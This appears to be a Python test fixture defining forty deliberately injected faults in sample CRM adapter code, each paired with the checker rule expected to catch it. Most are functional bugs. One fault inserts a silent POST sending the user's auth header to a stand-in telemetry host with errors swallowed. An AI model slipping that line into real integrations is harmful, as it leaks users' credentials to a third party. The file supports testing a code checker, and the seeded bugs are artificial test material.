"""Forty realistic faults, each as an edit of the sample adapters: what is replaced by what, and what has to be said.

An edit stands under `js` (harbor-node and harbor-typescript), `node`, `typescript` or `python`; a sample
without one cannot have the fault, or does not export the interface.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from workbench.core.run.finding import Severity

Edit = tuple[str, str]
THROWS = "throws"
"""In place of a rule: the call fails, and its error has the words."""


@dataclass(frozen=True)
class Fault:
    """One fault."""

    name: str
    fires: tuple[str, ...]
    """Interfaces to fire, besides the login."""
    rule: str
    """The rule that has to tell it; or THROWS."""
    says: str
    """A pattern of what it says: the cause."""
    edits: dict[str, Edit] = field(default_factory=dict)
    least: Severity = Severity.WARNING
    """The least that it has to be told as; a note where it costs App Connect's user nothing."""

    def edit(self, sample: str) -> Edit | None:
        """The edit for a sample."""
        kind = sample.removeprefix("harbor-")
        shared = self.edits.get("js") if kind in ("node", "typescript") else None
        return self.edits.get(kind, shared)


FAULTS = (
    Fault(
        "a refused log is told as a message beside a log id",
        ("createCallLog",),
        "create-call-log/failure-ignored",
        "could not be logged",
        {
            "js": (
                "        logId: answer.data.id,\n        returnMessage: notice('Call logged.', 'success', 2000),",
                "        logId: answer.data.id,\n        returnMessage: notice('The call could not be logged.', 'danger', 2000),",
            ),
            "python": (
                'notice("Call logged.", ttl=2000)',
                'notice("The call could not be logged.", "danger", ttl=2000)',
            ),
        },
    ),
    Fault(
        "a failure of an update is told as a message alone",
        ("updateCallLog",),
        "update-call-log/failure-ignored",
        "refused the update",
        {
            "js": (
                "notice('Call log updated.')",
                "notice('Harbor CRM refused the update.', 'error')",
            ),
            "python": ('notice("Call log updated.")', 'notice("Harbor CRM refused the update.", "error")'),
        },
    ),
    Fault(
        "a failure of a read is told as a message",
        ("getCallLog",),
        "get-call-log/failure-ignored",
        "not found",
        {
            "js": ("notice('Call log fetched.')", "notice('The log was not found.', 'danger')"),
            "python": ('notice("Call log fetched.")', 'notice("The log was not found.", "danger")'),
        },
    ),
    Fault(
        "a failure of logging out is told as a message",
        ("unAuthorize",),
        "returns/reported-failure",
        "could not be told",
        {
            "js": ("notice('Logged out of Harbor CRM.')", "notice('Harbor CRM could not be told.', 'danger')"),
            "python": ('notice("Logged out of Harbor CRM.")', 'notice("Harbor CRM could not be told.", "danger")'),
        },
    ),
    Fault(
        "a refused create is swallowed",
        ("createCallLog",),
        THROWS,
        "404|nothing at",
        {
            "js": (
                "await call('POST', '/activities', authHeader, {",
                "await call('POST', '/activity', authHeader, {",
            ),
            "python": (
                '"POST", "/activities", authHeader, json=activity',
                '"POST", "/activity", authHeader, json=activity',
            ),
        },
    ),
    Fault(
        "a refused update is swallowed and success told",
        ("updateCallLog",),
        "traffic/failure-passed-over",
        "PATCH .* 404",
        {
            "node": (
                "    const answer = await call('PATCH', `/activities/${existingCallLog.thirdPartyLogId}`, authHeader, { body: changes });\n"
                "    return { ...returned, extraDataTracking: tracking(answer) };",
                "    try {\n        await call('PATCH', `/activity/${existingCallLog.thirdPartyLogId}`, authHeader, { body: changes });\n"
                "    } catch (error) {\n        console.log(error.message);\n    }\n    return returned;",
            ),
            "typescript": (
                "    const answer = await call('PATCH', log, update.authHeader, { body: changes });\n"
                "    return { ...returned, extraDataTracking: tracking(answer) };",
                "    try {\n        await call('PATCH', `${log}x`, update.authHeader, { body: changes });\n"
                "    } catch (error) {\n        console.log(error);\n    }\n    return returned;",
            ),
            "python": (
                '        response = await call("PATCH", f"/activities/{existingCallLog[\'thirdPartyLogId\']}", authHeader, json=changes)\n'
                '        answer["extraDataTracking"] = tracking(response)\n',
                '        try:\n            await call("PATCH", f"/activity/{existingCallLog[\'thirdPartyLogId\']}", authHeader, json=changes)\n'
                "        except Exception as error:\n            print(error)\n",
            ),
        },
    ),
    Fault(
        "an expired session is swallowed as nobody found",
        ("findContact",),
        "traffic/failure-passed-over",
        "GET .*contacts .* 401",
        {
            "js": (
                "    const answer = await call('GET', '/contacts', authHeader, { query: { phone: phoneNumber, include: 'choices' } });\n"
                "    return matches(answer, phoneNumber);",
                "    try {\n        const answer = await call('GET', '/contacts', `${authHeader}x`, { query: { phone: phoneNumber, include: 'choices' } });\n"
                "        return matches(answer, phoneNumber);\n    } catch {\n        return { successful: true, matchedContactInfo: [] };\n    }",
            ),
            "python": (
                '    response = await call("GET", "/contacts", authHeader, params={"phone": phoneNumber, "include": "choices"})\n'
                "    return _matches(response, phoneNumber)",
                '    try:\n        response = await call("GET", "/contacts", authHeader + "x", params={"phone": phoneNumber})\n'
                '        return _matches(response, phoneNumber)\n    except Exception:\n        return {"successful": True, "matchedContactInfo": []}',
            ),
        },
    ),
    Fault(
        "undefined in the subject",
        ("createCallLog",),
        "traffic/broken-text",
        "(undefined|None)” in the body's subject",
        {
            "js": ("subject: callLog.customSubject || `${", "subject: `${contactInfo.fullName}: ${"),
            "python": ('callLog.get("customSubject") or f"{', "f\"{contactInfo.get('fullName')}: {"),
        },
    ),
    Fault(
        "undefined in an address",
        ("getCallLog",),
        "traffic/broken-text",
        "(undefined|None)” in the query's owner",
        {
            "js": ("`/activities/${callLogId}`", "`/activities/${callLogId}?owner=${callLogId.owner}`"),
            "python": ('f"/activities/{callLogId}"', "f\"/activities/{callLogId}?owner={_.get('owner')}\""),
        },
    ),
    Fault(
        "an object as text in a body",
        ("createCallLog",),
        "traffic/broken-text",
        r"\[object Object\]” in the body's note",
        {
            "js": (
                "note: note ?? '',\n            result: callLog.result",
                "note: `${callLog.from}`,\n            result: callLog.result",
            ),
        },
    ),
    Fault(
        "a date that is none",
        ("createCallLog",),
        "traffic/broken-text",
        "(Invalid Date|None)” in the body's ended_label",
        {
            "js": (
                "started_at: callLog.startTime,\n            duration",
                "started_at: callLog.startTime, ended_label: String(new Date(callLog.endTimeText)),\n            duration",
            ),
            "python": (
                '        "started_at": callLog.get("startTime"),\n',
                '        "started_at": callLog.get("startTime"),\n        "ended_label": str(callLog.get("endTime")),\n',
            ),
        },
    ),
    Fault(
        "not a number in a body",
        ("createCallLog",),
        "traffic/broken-text",
        "(NaN|None)” in the body's minutes",
        {
            "js": (
                "from_number: callLog.from?.phoneNumber,",
                "from_number: callLog.from?.phoneNumber, minutes: `${callLog.seconds / 60} min`,",
            ),
            "python": (
                '        "external_id": str(callLog["sessionId"]),\n',
                '        "external_id": str(callLog["sessionId"]),\n        "minutes": f"{callLog.get(\'seconds\')} min",\n',
            ),
        },
    ),
    Fault(
        "a wrong argument name of a log",
        ("createCallLog",),
        "arguments/never-passed",
        "compositeLogDetails.*composedLogDetails",
        {
            "node": (
                "additionalSubmission, composedLogDetails }) {\n    const inbound",
                "additionalSubmission, compositeLogDetails: composedLogDetails }) {\n    const inbound",
            ),
            "typescript": (
                "    additionalSubmission,\n    composedLogDetails,\n}: CreateCallLog) {",
                "    additionalSubmission,\n    compositeLogDetails: composedLogDetails,\n}: any) {",
            ),
            "python": (
                'additionalSubmission=None, composedLogDetails=None, **_\n):\n    """Writes one activity.',
                'additionalSubmission=None, compositeLogDetails=None, **_\n):\n    composedLogDetails = compositeLogDetails\n    """Writes one activity.',
            ),
        },
    ),
    Fault(
        "an argument of another interface",
        ("updateCallLog",),
        "arguments/never-passed",
        "callDisposition",
        {
            "node": (
                "    composedLogDetails,\n}) {\n    const changes = {",
                "    composedLogDetails,\n    callDisposition,\n}) {\n    const changes = {\n        disposition: callDisposition,",
            ),
            "typescript": (
                "    const changes = {\n",
                "    const changes = {\n        disposition: (update as any).callDisposition,\n",
            ),
            "python": (
                '        "deal_id": (additionalSubmission or {}).get("deal_id"),\n    }\n    changes =',
                '        "deal_id": (additionalSubmission or {}).get("deal_id"),\n        "disposition": _.get("callDisposition"),\n    }\n    changes =',
            ),
        },
    ),
    Fault(
        "a contact is looked up by an argument that is not there",
        ("findContact",),
        "arguments/never-passed",
        "“phone”",
        {
            "node": (
                "async function findContact({ authHeader, phoneNumber, isExtension }) {",
                "async function findContact({ authHeader, phone: phoneNumber, isExtension }) {",
            ),
            "typescript": (
                "async function findContact({ authHeader, phoneNumber, isExtension }: FindContact) {",
                "async function findContact({ authHeader, phone: phoneNumber, isExtension }: any) {",
            ),
            "python": (
                "async def findContact(authHeader, phoneNumber, isExtension=None, **_):",
                "async def findContact(authHeader, isExtension=None, **sent):\n    phoneNumber = sent.get('phone')",
            ),
        },
    ),
    Fault(
        "an activity is written twice",
        ("createCallLog",),
        "traffic/written-twice",
        "/activities was sent twice",
        {
            "node": (
                "    const text = await response.text();",
                "    if (method === 'POST' && path === '/activities') await fetch(url, { method, headers, body: JSON.stringify(body) });\n"
                "    const text = await response.text();",
            ),
            "typescript": (
                "    const text = await response.text();",
                "    if (method === 'POST' && path === '/activities') await fetch(url, { method, headers, body });\n"
                "    const text = await response.text();",
            ),
            "python": (
                '    response = await call("POST", "/activities", authHeader, json=activity)\n',
                '    await call("POST", "/activities", authHeader, json=activity)\n    response = await call("POST", "/activities", authHeader, json=activity)\n',
            ),
        },
    ),
    Fault(
        "a contact is created twice",
        ("createContact",),
        "traffic/written-twice",
        "/contacts was sent twice",
        {
            "node": (
                "    const text = await response.text();",
                "    if (method === 'POST' && path === '/contacts') await fetch(url, { method, headers, body: JSON.stringify(body) });\n"
                "    const text = await response.text();",
            ),
            "typescript": (
                "    const text = await response.text();",
                "    if (method === 'POST' && path === '/contacts') await fetch(url, { method, headers, body });\n"
                "    const text = await response.text();",
            ),
            "python": (
                "    response.raise_for_status()",
                "    if (method, path) == ('POST', '/contacts'):\n        await client().request(method, f'{API}{path}', headers=headers, **request)\n"
                "    response.raise_for_status()",
            ),
        },
    ),
    Fault(
        "a message is written twice",
        ("createMessageLog",),
        "traffic/written-twice",
        "/messages was sent twice",
        {
            "node": (
                "    const text = await response.text();",
                "    if (method === 'POST' && path === '/messages') await fetch(url, { method, headers, body: JSON.stringify(body) });\n"
                "    const text = await response.text();",
            ),
            "typescript": (
                "    const text = await response.text();",
                "    if (method === 'POST' && path === '/messages') await fetch(url, { method, headers, body });\n"
                "    const text = await response.text();",
            ),
            "python": (
                '    response = await call(\n        "POST", "/messages", authHeader,',
                '    await call("POST", "/messages", authHeader, json={**content, "contact_id": contactInfo["id"], "deal_id": deal})\n    response = await call(\n        "POST", "/messages", authHeader,',
            ),
        },
    ),
    Fault(
        "a request is not awaited",
        ("upsertCallDisposition",),
        "traffic/still-running",
        "disposition was still running|never awaited",
        {
            "js": (
                "    const answer = await call('PUT', `/activities/${logId}/disposition`, authHeader, {\n        body: { disposition: dispositions.outcome },\n    });\n",
                "    call('PUT', `/activities/${logId}/disposition`, authHeader, {\n        body: { disposition: dispositions.outcome },\n    });\n    const answer = { headers: new Map() };\n",
            ),
            "python": (
                '    response = await call("PUT", f"/activities/{log_id}/disposition", authHeader, json={"disposition": outcome})\n    return {\n        "logId": log_id,\n        "returnMessage": notice("Disposition updated.", ttl=2000),\n        "extraDataTracking": tracking(response),\n    }',
                '    call("PUT", f"/activities/{log_id}/disposition", authHeader, json={"disposition": outcome})\n    return {\n        "logId": log_id,\n        "returnMessage": notice("Disposition updated.", ttl=2000),\n    }',
            ),
        },
    ),
    Fault(
        "the answer of a request is used before it is there",
        ("createCallLog",),
        "traffic/still-running",
        "activities was still running|never awaited",
        {
            "js": (
                "const answer = await call('POST', '/activities', authHeader, {",
                "const answer = call('POST', '/activities', authHeader, {",
            ),
        },
    ),
    Fault(
        "a coroutine is taken for the answer of a request",
        ("createCallLog",),
        THROWS,
        "'coroutine' object has no attribute",
        {
            "python": (
                'response = await call("POST", "/activities", authHeader, json=activity)',
                'response = call("POST", "/activities", authHeader, json=activity)',
            ),
        },
    ),
    Fault(
        "an id of the wrong type",
        ("findContact",),
        "identity/not-an-id",
        "an object",
        {
            "js": (
                "        id: String(contact.id),\n        name: contact.name,\n        type: contact.type,\n        phone:",
                "        id: { value: contact.id },\n        name: contact.name,\n        type: contact.type,\n        phone:",
            ),
            "python": (
                '        "id": str(contact["id"]),\n        "name": contact["name"],\n        "type": contact["type"],\n        "phone"',
                '        "id": {"value": contact["id"]},\n        "name": contact["name"],\n        "type": contact["type"],\n        "phone"',
            ),
        },
    ),
    Fault(
        "a log id under another name",
        ("createCallLog",),
        "create-call-log/log-id-missing",
        "no logId",
        {
            "js": (
                "logId: answer.data.id,\n        returnMessage: notice('Call logged.'",
                "logID: answer.data.id,\n        returnMessage: notice('Call logged.'",
            ),
            "python": (
                '"logId": response.json()["data"]["id"],\n        "returnMessage": notice("Call logged."',
                '"log_id": response.json()["data"]["id"],\n        "returnMessage": notice("Call logged."',
            ),
        },
    ),
    Fault(
        "a message log's id under another name",
        ("createMessageLog",),
        "create-message-log/log-id-missing",
        "no logId",
        {
            "js": (
                "logId: answer.data.id,\n        returnMessage: notice('Message logged.'",
                "id: answer.data.id,\n        returnMessage: notice('Message logged.'",
            ),
            "python": (
                '"logId": response.json()["data"]["id"],\n        "returnMessage": notice("Message logged."',
                '"id": response.json()["data"]["id"],\n        "returnMessage": notice("Message logged."',
            ),
        },
    ),
    Fault(
        "contacts under another name",
        ("findContact",),
        "find-contact/matches-missing",
        "matchedContactInfo is missing",
        {
            "node": (
                "return { successful: true, matchedContactInfo: contacts,",
                "return { successful: true, matchedContacts: contacts,",
            ),
            "typescript": (
                "        matchedContactInfo: [...answer.data.map",
                "        matchedContacts: [...answer.data.map",
            ),
            "python": ('"matchedContactInfo": contacts,', '"matchedContacts": contacts,'),
        },
    ),
    Fault(
        "a note under another name",
        ("getCallLog",),
        "get-call-log/note-missing",
        "no note",
        {
            "js": ("            note: activity.note,", "            notes: activity.note,"),
            "python": ('        "note": activity["note"],', '        "notes": activity["note"],'),
        },
    ),
    Fault(
        "no text of the log",
        ("getCallLog",),
        "get-call-log/full-body-missing",
        "no fullBody",
        {
            "js": ("            fullBody: activity.body,\n", ""),
            "python": ('        "fullBody": activity["body"],\n', ""),
        },
    ),
    Fault(
        "a member of the CRM that is not there",
        ("findContact",),
        "contact/name-missing",
        "no name",
        {
            "js": (
                "        name: contact.name,\n        type: contact.type,\n        phone:",
                "        name: contact.full_name,\n        type: contact.type,\n        phone:",
            ),
            "python": (
                '        "name": contact["name"],\n        "type": contact["type"],\n        "phone"',
                '        "name": contact.get("full_name"),\n        "type": contact["type"],\n        "phone"',
            ),
        },
    ),
    Fault(
        "a date without a zone",
        ("findContact",),
        "contact/created-date-unreadable",
        r"\.2026",
        {
            "js": (
                "createdDate: contact.created_at,",
                "createdDate: contact.created_at.slice(0, 10).split('-').reverse().join('.'),",
            ),
            "python": (
                '"createdDate": contact["created_at"],',
                '"createdDate": ".".join(reversed(contact["created_at"][:10].split("-"))),',
            ),
        },
    ),
    Fault(
        "only the first page",
        ("getUserList",),
        "traffic/further-pages",
        "/users says that there is more",
        {
            "js": ("query: { limit: 200 }", "query: { limit: 2 }"),
            "python": ('params={"limit": 200}', 'params={"limit": 2}'),
        },
    ),
    Fault(
        "an argument is changed",
        ("createCallLog",),
        "arguments/changed",
        "callLog",
        {
            "js": (
                "    const inbound = callLog.direction === 'Inbound';",
                "    callLog.direction = callLog.direction.toLowerCase();\n    const inbound = callLog.direction === 'inbound';",
            ),
            "python": (
                '    inbound = callLog["direction"] == "Inbound"',
                '    callLog["direction"] = callLog["direction"].lower()\n    inbound = callLog["direction"] == "inbound"',
            ),
        },
        least=Severity.NOTE,
    ),
    Fault(
        "the user is not saved",
        ("refreshUserInfo",),
        "user/unsaved",
        "refreshToken|platformAdditionalInfo",
        {
            "js": ("    await user.update({", "    Object.assign(user, {\n        refreshToken: 'another',"),
            "python": ('"role": me["role"]}\n    await user.save()', '"role": me["role"], "seen": 1}'),
        },
    ),
    Fault(
        "tokens are cleared and not saved",
        ("unAuthorize",),
        "un-authorize/tokens-left",
        "still there",
        {
            "js": ("    user.refreshToken = '';\n    await user.save();", "    user.refreshToken = '';"),
            "python": ('    user.refreshToken = ""\n    await user.save()', '    user.refreshToken = ""'),
        },
    ),
    Fault(
        "a JSON column is changed in place",
        ("refreshUserInfo",),
        "user/change-lost",
        "platformAdditionalInfo",
        {
            "js": (
                "    await user.update({\n        timezoneName: me.timezone_name,\n        timezoneOffset: me.timezone_offset,",
                "    user.platformAdditionalInfo.checked = me.id;\n    await user.update({\n        timezoneName: me.timezone_name,\n        timezoneOffset: me.timezone_offset,\n    });\n    if (false) await user.update({",
            ),
            "python": (
                '    user.platformAdditionalInfo = {**(user.platformAdditionalInfo or {}), "email": me["email"], "role": me["role"]}\n',
                '    user.platformAdditionalInfo["checked"] = me["id"]\n',
            ),
        },
    ),
    Fault(
        "the key without Basic",
        ("getLicenseStatus",),
        THROWS,
        "401|credentials",
        {
            "node": (
                "'/license', `Basic ${getBasicAuth({ apiKey: user.accessToken })}`",
                "'/license', getBasicAuth({ apiKey: user.accessToken })",
            ),
            "typescript": ("'/license', `Bearer ${user.accessToken}`", "'/license', user.accessToken"),
            "python": (
                '"/license", f"Basic {getBasicAuth(user.accessToken)}"',
                '"/license", getBasicAuth(user.accessToken)',
            ),
        },
    ),
    Fault(
        "a doubled scheme",
        ("getUserList",),
        THROWS,
        "401|token is not known|key is not known",
        {
            "js": ("call('GET', '/users', authHeader,", "call('GET', '/users', `Bearer ${authHeader}`,"),
            "python": ('call("GET", "/users", authHeader,', 'call("GET", "/users", f"Bearer {authHeader}",'),
        },
    ),
    Fault(
        "a wrong content type",
        ("createContact",),
        THROWS,
        "415|application/json",
        {
            "node": ("headers['Content-Type'] = 'application/json'", "headers['Content-Type'] = 'text/plain'"),
            "typescript": ("headers['Content-Type'] = 'application/json'", "headers['Content-Type'] = 'text/plain'"),
            "python": (
                '        "/contacts",\n        authHeader,\n        json={\n            "name": newContactName,\n            "type": newContactType or "Contact",\n            "status": (additionalSubmission or {}).get("status") or "new",\n            "phones": [{"label": "work", "number": phoneNumber}],\n        },',
                '        "/contacts",\n        authHeader,\n        data={"name": newContactName, "type": newContactType or "Contact"},',
            ),
        },
    ),
    Fault(
        "an offset in minutes as text that is none",
        ("getUserList",),
        "get-user-info/time-zone-unreadable",
        "eight hours west",
        {
            "js": (
                "timezoneOffset: me.timezone_offset,\n            platform",
                "timezoneOffset: 'eight hours west',\n            platform",
            ),
            "typescript": (
                "timezoneOffset: me.timezone_offset,\n                platform",
                "timezoneOffset: 'eight hours west',\n                platform",
            ),
            "python": ('"timezoneOffset": me["timezone_offset"],', '"timezoneOffset": "eight hours west",'),
        },
    ),
    Fault(
        "a message that is empty",
        ("createContact",),
        "return-message/message-missing",
        "no text",
        {
            "js": ("notice('Contact created.')", "notice('')"),
            "python": ('notice("Contact created.")', 'notice("")'),
        },
    ),
    Fault(
        "seconds as milliseconds",
        ("createMessageLog",),
        "return-message/ttl-in-seconds",
        "ttl is 5",
        {
            "js": ("notice('Message logged.', 'success', 1000)", "notice('Message logged.', 'success', 5)"),
            "python": ('notice("Message logged.", ttl=1000)', 'notice("Message logged.", ttl=5)'),
        },
    ),
    Fault(
        "nothing is returned",
        ("updateMessageLog",),
        "update-message-log/returns-nothing",
        "nothing",
        {
            "js": (
                "    return { returnMessage: notice('Message log updated.'), extraDataTracking: tracking(answer) };",
                "    void answer;",
            ),
            "python": (
                '    return {"returnMessage": notice("Message log updated."), "extraDataTracking": tracking(response)}',
                "    _ = response",
            ),
        },
    ),
    Fault(
        "a secret goes to somebody else",
        ("createContact",),
        "traffic/secret-elsewhere",
        "telemetry.example.net/events got",
        {
            "js": (
                "    const contact = answer.data;\n",
                "    await fetch('https://telemetry.example.net/events', { method: 'POST', headers: { 'X-Key': authHeader }, body: '{}' }).catch(() => {});\n    const contact = answer.data;\n",
            ),
            "typescript": (
                "    const contact: HarborContact = answer.data;\n",
                "    await fetch('https://telemetry.example.net/events', { method: 'POST', headers: { 'X-Key': authHeader }, body: '{}' }).catch(() => {});\n    const contact: HarborContact = answer.data;\n",
            ),
            "python": (
                '    contact = response.json()["data"]\n    return {\n        "contactInfo"',
                '    contact = response.json()["data"]\n    try:\n        await httpx.AsyncClient().post("https://telemetry.example.net/events", headers={"X-Key": authHeader})\n    except httpx.HTTPError:\n        pass\n    return {\n        "contactInfo"',
            ),
        },
    ),
    Fault(
        "an error without a status",
        ("getUserList",),
        "throws/without-status",
        "not implemented",
        {
            "js": (
                "    const { data: users } = await call('GET', '/users', authHeader,",
                "    if (authHeader) throw new Error('not implemented');\n    const { data: users } = await call('GET', '/users', authHeader,",
            ),
            "python": (
                '    users = (await call("GET", "/users"',
                '    raise RuntimeError("not implemented")\n    users = (await call("GET", "/users"',
            ),
        },
    ),
)
